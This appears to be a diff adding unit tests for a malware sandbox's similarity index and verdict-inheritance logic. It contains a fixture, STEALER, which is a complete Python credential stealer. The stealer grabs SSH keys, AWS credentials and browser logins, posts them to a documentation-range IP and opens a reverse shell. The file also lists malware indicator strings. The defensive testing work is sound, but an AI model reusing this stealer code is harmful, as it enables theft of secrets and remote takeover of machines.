@@ -0,0 +1,362 @@
+#!/usr/bin/env python3
+"""
+Similarity Index Tests
+
+Checks ELF import/section parsing, that recompiled variants are found
+and unrelated samples are not (also when they share most strings, as
+static binaries share libc), and the dynamic fast path: a variant of a
+VM-confirmed malicious sample inherits its verdict without a VM run,
+an unrelated static binary built with gcc does not.
+"""
+
+import os
+import sys
+import random
+import shutil
+import struct
+import hashlib
+import tempfile
+import subprocess
+import unittest
+from unittest import mock
+
+import yaml
+
+# Add parent directory to path
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+sys.path.insert(0, ROOT)
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+
+import sample
+import similarity
+from similarity import Neighbor, SimilarityIndex, elf_structure, extract_features
+from dynamic import DynamicAnalyzer
+from test_rescore import FakeVMManager, _patterns
+
+IMPORTS = [b'socket', b'connect', b'execve', b'fork', b'setsid', b'getenv', b'strcpy', b'malloc']
+STRINGS = [b'/etc/shadow', b'/bin/sh -i', b'wget http://203.0.113.7/x', b'.ssh/authorized_keys',
+           b'User-Agent: Mozilla/5.0 (X11)', b'/tmp/.cache-update', b'crontab -l', b'/proc/self/exe',
+           b'iptables -F', b'kill -9 %d', b'PRIVMSG #chan :%s', b'NICK bot-%04x', b'JOIN #chan']
+
+HOSTNAME_C = r"""
+#include <stdio.h>
+#include <string.h>
+int main(int argc, char **argv) {
+    char buf[64];
+    FILE *f = fopen("/etc/hostname", "r");
+    if (f && fgets(buf, sizeof buf, f))
+        printf("host=%s\n", buf);
+    return strlen(argv[0]) > 3;
+}
+"""
+SORTER_C = r"""
+#include <stdio.h>
+#include <stdlib.h>
+static int cmp(const void *a, const void *b) { return *(const int *)a - *(const int *)b; }
+int main(void) {
+    int x[16];
+    for (int i = 0; i < 16; i++)
+        x[i] = rand() % 100;
+    qsort(x, 16, sizeof(int), cmp);
+    for (int i = 0; i < 16; i++)
+        printf("%d ", x[i]);
+    puts("sorted");
+    return 0;
+}
+"""
+
+
+class FakeTlsh:
+    """Stand-in for py-tlsh: a digest per input, every pair at distance 0"""
+    
+    class Tlsh:
+        def __init__(self):
+            self._h = hashlib.sha256()
+        
+        def update(self, data):
+            self._h.update(data)
+        
+        def final(self):
+            pass
+        
+        def hexdigest(self):
+            return 'T1' + self._h.hexdigest().upper()
+    
+    @staticmethod
+    def diff(a, b):
+        return 0
+
+
+STEALER = '''import os, socket, subprocess, base64
+import requests
+
+TARGETS = ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.config/google-chrome/Default/Login Data"]
+
+def collect_credentials():
+    found = {}
+    for target in TARGETS:
+        path = os.path.expanduser(target)
+        if os.path.exists(path):
+            with open(path, "rb") as handle:
+                found[target] = base64.b64encode(handle.read()).decode()
+    return found
+
+def exfiltrate(found, server):
+    requests.post(server + "/upload", json=found, timeout=10)
+
+def reverse_shell(host, port):
+    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    connection.connect((host, port))
+    subprocess.call(["/bin/sh", "-i"], stdin=connection.fileno(), stdout=connection.fileno())
+
+exfiltrate(collect_credentials(), "http://203.0.113.7")
+reverse_shell("203.0.113.7", 4444)
+'''
+
+
+def build_elf(text: bytes, strings, imports) -> bytes:
+    """ELF64 with .text, .rodata, .dynsym (imports undefined) and .dynstr"""
+    dynstr = b'\0'
+    names = []
+    for name in imports:
+        names.append(len(dynstr))
+        dynstr += name + b'\0'
+    dynsym = b'\0' * 24 + b''.join(struct.pack('<IBBHQQ', n, 0x12, 0, 0, 0, 0) for n in names)
+    sections = [(b'.text', 1, 0, text), (b'.rodata', 1, 0, b'\0'.join(strings) + b'\0'),
+                (b'.dynsym', 11, 4, dynsym), (b'.dynstr', 3, 0, dynstr)]
+    shstrtab = b'\0'
+    name_offsets = []
+    for name, *_ in sections + [(b'.shstrtab',)]:
+        name_offsets.append(len(shstrtab))
+        shstrtab += name + b'\0'
+    sections.append((b'.shstrtab', 3, 0, shstrtab))
+    
+    body, offsets, offset = b'', [], 64
+    for *_, content in sections:
+        offsets.append(offset)
+        body += content
+        offset += len(content)
+    body += b'\0' * ((-offset) % 8)
+    shoff = 64 + len(body)
+    header = b'\x7fELF' + bytes([2, 1, 1]) + b'\0' * 9
+    header += struct.pack('<HHIQQQIHHHHHH', 3, 183, 1, 0, 0, shoff, 0, 64, 56, 0, 64,
+                          len(sections) + 1, len(sections))
+    table = b'\0' * 64
+    for (_, kind, link, content), name, off in zip(sections, name_offsets, offsets):
+        table += struct.pack('<IIQQQQIIQQ', name, kind, 0, 0, off, len(content), link, 0, 1, 0)
+    return header + body + table
+
+
+class TestSimilarity(unittest.TestCase):
+    """Test feature extraction and nearest-neighbor lookups"""
+    
+    def setUp(self):
+        self.tmp = tempfile.mkdtemp()
+        self.addCleanup(shutil.rmtree, self.tmp, True)
+        self.index = SimilarityIndex(os.path.join(self.tmp, 'dyn.db'))
+        self.addCleanup(self.index.close)
+    
+    def _write(self, name, data):
+        path = os.path.join(self.tmp, name)
+        with open(path, 'wb' if isinstance(data, bytes) else 'w') as f:
+            f.write(data)
+        return path
+    
+    def test_elf_structure(self):
+        data = build_elf(b'\x90' * 1024, STRINGS, IMPORTS)
+        sections, imports = elf_structure(data)
+        self.assertEqual([name for name, _ in sections], ['.text', '.rodata', '.dynsym', '.dynstr', '.shstrtab'])
+        self.assertEqual(imports, [i.decode() for i in IMPORTS])
+        self.assertEqual(elf_structure(data[:200]), ([], []))
+        self.assertEqual(elf_structure(b'#!/bin/sh\n' * 10), ([], []))
+    
+    def test_variants_are_nearest(self):
+        rng = random.Random(7)
+        opcodes = b'\x48\x89\xe5\xc0\xc3\x90\x0f\x05\xe8\xff'
+        code = bytes(rng.choice(opcodes) for _ in range(8192))
+        family = extract_features(self._write('family.elf', build_elf(code, STRINGS, IMPORTS)))
+        # Recompiled: other code, one string changed, same imports
+        variant = extract_features(self._write('variant.elf', build_elf(
+            bytes(rng.choice(opcodes) for _ in range(8192)), STRINGS[:-1] + [b'JOIN #other'], IMPORTS)))
+        unrelated = extract_features(self._write('other.elf', build_elf(
+            code[::-1], [b'hello world %s' % bytes([65 + i]) for i in range(13)], [b'printf', b'puts'])))
+        script = extract_features(self._write('stealer.py', STEALER))
+        self.assertEqual(family.imphash, variant.imphash)
+        self.assertNotEqual(family.imphash, unrelated.imphash)
+        
+        self.index.add(family, 'MALICIOUS', 80, confirmed=True)
+        self.index.add(unrelated, 'CLEAN', 0, confirmed=True)
+        self.index.add(script, 'MALICIOUS', 70, confirmed=True)
+        self.assertEqual(len(self.index), 3)
+        
+        nearest = self.index.nearest(variant)
+        self.assertEqual([n.file_hash for n in nearest], [family.file_hash])
+        self.assertGreaterEqual(nearest[0].similarity, 0.7)
+        self.assertTrue(nearest[0].structural)
+        self.assertEqual((nearest[0].verdict, nearest[0].confirmed), ('MALICIOUS', True))
+        # A sample is not its own neighbor; re-adding replaces its entry
+        self.assertEqual(self.index.nearest(unrelated), [])
+        self.index.add(unrelated, 'SUSPICIOUS', 20, confirmed=False)
+        self.assertEqual(len(self.index), 3)
+        
+        edited = extract_features(self._write('stealer2.py', STEALER.replace('203.0.113.7', '198.51.100.9')
+                                               + '# v2\n'))
+        match = self.index.nearest(edited)[0]
+        self.assertEqual((match.file_hash, match.method), (script.file_hash, 'features'))
+        self.assertGreaterEqual(match.similarity, 0.9)
+    
+    def test_common_features_do_not_count(self):
+        """Features most indexed samples have (libc strings) are left out of the score"""
+        libc = {b'str:libc %d' % i for i in range(300)}
+        
+        def make(name, own):
+            features = similarity.Features(hashlib.sha256(name).hexdigest(), 'elf')
+            features.set_tokens(libc | own)
+            return features
+        first = make(b'first', {b'str:first %d' % i for i in range(30)})
+        unrelated = make(b'unrelated', {b'str:other %d' % i for i in range(30)})
+        self.index.add(first, 'MALICIOUS', 80, confirmed=True)
+        # Too few samples to tell which features are common
+        match = self.index.nearest(unrelated)[0]
+        self.assertGreater(match.similarity, 0.8)
+        self.assertFalse(match.structural)
+        
+        for i in range(similarity.COMMON_FEATURE_MIN_SAMPLES):
+            self.index.add(make(b'n%d' % i, {b'str:n%d %d' % (i, j) for j in range(30)}), 'CLEAN', 0, confirmed=True)
+        self.assertEqual(self.index.nearest(unrelated), [])
+        variant = make(b'variant', {b'str:first %d' % i for i in range(27)} | {b'str:v2'})
+        match = self.index.nearest(variant)[0]
+        self.assertEqual(match.file_hash, first.file_hash)
+        self.assertAlmostEqual(match.similarity, 27 / 31, places=3)
+
+
+class TestFastPath(unittest.TestCase):
+    """Test verdict inheritance in the dynamic analyzer"""
+    
+    def setUp(self):
+        self.tmp = tempfile.mkdtemp()
+        self.addCleanup(shutil.rmtree, self.tmp, True)
+        self.patterns = os.path.join(self.tmp, 'patterns.yaml')
+        with open(self.patterns, 'w') as f:
+            yaml.safe_dump(_patterns(socket_score=40), f)
+    
+    def _analyzer(self, **similarity_cfg):
+        analyzer = DynamicAnalyzer(db_path=os.path.join(self.tmp, 'dyn.db'), yara_dir=os.path.join(self.tmp, 'rules'),
+                                   patterns_file=self.patterns, vm_config_path='',
+                                   cache_path=os.path.join(self.tmp, 'results.db'),
+                                   yara_cache_dir=os.path.join(self.tmp, 'yara_cache'), similarity=similarity_cfg)
+        analyzer._vm_manager, analyzer._vm_available = FakeVMManager(), True
+        self.addCleanup(analyzer.db.close)
+        self.addCleanup(analyzer.similarity.close)
+        return analyzer
+    
+    def _write(self, name, text):
+        path = os.path.join(self.tmp, name)
+        with open(path, 'w') as f:
+            f.write(text)
+        return path
+    
+    def test_variant_inherits_confirmed_verdict(self):
+        analyzer = self._analyzer()
+        first = analyzer.run(self._write('stealer.py', STEALER), use_cache=False)
+        self.assertEqual((first['verdict'], first['similar']), ('MALICIOUS', []))
+        self.assertEqual(analyzer._vm_manager.runs, 1)
+        
+        variant = analyzer.run(self._write('stealer_v2.py', STEALER + '# v2\n'), use_cache=False)
+        self.assertEqual(analyzer._vm_manager.runs, 1)
+        self.assertEqual(variant['verdict'], 'MALICIOUS')
+        self.assertFalse(variant['vm_used'])
+        self.assertIn(first['file_hash'], variant['sandbox']['skipped'])
+        self.assertEqual(variant['similar'][0]['file_hash'], first['file_hash'])
+        self.assertTrue(any(r.startswith('[SIMILARITY]') for r in variant['reasons']))
+        
+        # Rescoring replays the inherited score
+        row = analyzer.db.get_by_hash(variant['file_hash'], with_raw=True)
+        self.assertEqual(min(analyzer.replay(row['raw'], 'python').total_score, 100), variant['threat_score'])
+        
+        # The inherited verdict is indexed, but a third variant only inherits from confirmed runs
+        third = analyzer.run(self._write('stealer_v3.py', STEALER + '# v2\n# v3\n'), use_cache=False)
+        self.assertEqual(third['similar'][0]['file_hash'] if not third['similar'][0]['confirmed']
+                         else first['file_hash'], first['file_hash'] if third['similar'][0]['confirmed']
+                         else variant['file_hash'])
+        self.assertEqual(analyzer._vm_manager.runs, 1)
+    
+    def test_below_threshold_runs_vm(self):
+        analyzer = self._analyzer(inherit_threshold=1.01)
+        analyzer.run(self._write('stealer.py', STEALER), use_cache=False)
+        result = analyzer.run(self._write('stealer_v2.py', STEALER + '# v2\n'), use_cache=False)
+        self.assertEqual(analyzer._vm_manager.runs, 2)
+        self.assertTrue(result['vm_used'])
+        self.assertGreaterEqual(result['similar'][0]['similarity'], 0.9)
+    
+    def test_inheritable(self):
+        analyzer = self._analyzer()
+        near = lambda sim, verdict, confirmed: Neighbor('h', sim, 'features', 'python', verdict, 50, confirmed)
+        self.assertIsNone(analyzer._inheritable([near(0.95, 'MALICIOUS', False)]))
+        self.assertIsNone(analyzer._inheritable([near(0.95, 'CLEAN', True)]))
+        self.assertIsNone(analyzer._inheritable([near(0.85, 'MALICIOUS', True)]))
+        self.assertEqual(analyzer._inheritable([near(0.97, 'CLEAN', True), near(0.92, 'MALICIOUS', True)]).similarity,
+                         0.92)
+        # A binary needs more than shared strings
+        binary = lambda method, structural: Neighbor('h', 0.95, method, 'elf_x64', 'MALICIOUS', 50, True, structural)
+        self.assertIsNone(analyzer._inheritable([binary('features', False)]))
+        self.assertIsNotNone(analyzer._inheritable([binary('features', True)]))
+        self.assertIsNone(analyzer._inheritable([binary('tlsh', False)]))
+        self.assertIsNone(analyzer._inheritable([binary('ssdeep', False)]))
+        self.assertIsNotNone(analyzer._inheritable([binary('tlsh', True)]))
+    
+    @unittest.skipUnless(shutil.which('gcc'), "gcc not installed")
+    def test_unrelated_gcc_binaries_do_not_inherit(self):
+        """Real toolchain output: static binaries are mostly the same libc"""
+        analyzer = self._analyzer()
+        runs = 0
+        for flags in (['-static'], ['-static', '-s'], []):
+            paths = []
+            for name, source in (('hostname', HOSTNAME_C), ('sorter', SORTER_C)):
+                path = os.path.join(self.tmp, f"{name}{''.join(flags)}")
+                try:
+                    subprocess.run(['gcc', '-O2', *flags, '-x', 'c', '-', '-o', path], input=source.encode(),
+                                   capture_output=True, check=True, timeout=60)
+                except subprocess.CalledProcessError:
+                    self.skipTest(f"gcc {' '.join(flags)} failed (no static libc?)")
+                paths.append(path)
+            known = extract_features(paths[0])
+            analyzer.similarity.add(known, 'MALICIOUS', 80, confirmed=True)
+            
+            result = analyzer.run(paths[1], use_cache=False)
+            runs += 1
+            self.assertEqual(analyzer._vm_manager.runs, runs, flags)
+            self.assertTrue(result['vm_used'])
+            for n in result['similar']:
+                if n['file_hash'] == known.file_hash:
+                    self.assertFalse(n['structural'], flags)
+    
+    @unittest.skipUnless(shutil.which('gcc'), "gcc not installed")
+    def test_close_tlsh_alone_does_not_inherit(self):
+        """Static builds of unrelated programs have a small TLSH distance"""
+        paths = []
+        for name, source in (('hostname', HOSTNAME_C), ('sorter', SORTER_C)):
+            path = os.path.join(self.tmp, f"{name}-tlsh")
+            try:
+                subprocess.run(['gcc', '-O2', '-static', '-x', 'c', '-', '-o', path], input=source.encode(),
+                               capture_output=True, check=True, timeout=60)
+            except subprocess.CalledProcessError:
+                self.skipTest("gcc -static failed (no static libc?)")
+            paths.append(path)
+        
+        with mock.patch.object(sample, 'tlsh', FakeTlsh), mock.patch.object(similarity, 'tlsh', FakeTlsh):
+            analyzer = self._analyzer()
+            known = extract_features(paths[0])
+            self.assertTrue(known.tlsh)
+            analyzer.similarity.add(known, 'MALICIOUS', 80, confirmed=True)
+            result = analyzer.run(paths[1], use_cache=False)
+        
+        neighbor = [n for n in result['similar'] if n['file_hash'] == known.file_hash][0]
+        self.assertEqual(neighbor['method'], 'tlsh')
+        self.assertEqual(neighbor['similarity'], 1.0)
+        self.assertTrue(result['vm_used'])
+        self.assertEqual(analyzer._vm_manager.runs, 1)
+
+
+if __name__ == '__main__':
+    unittest.main(verbosity=2)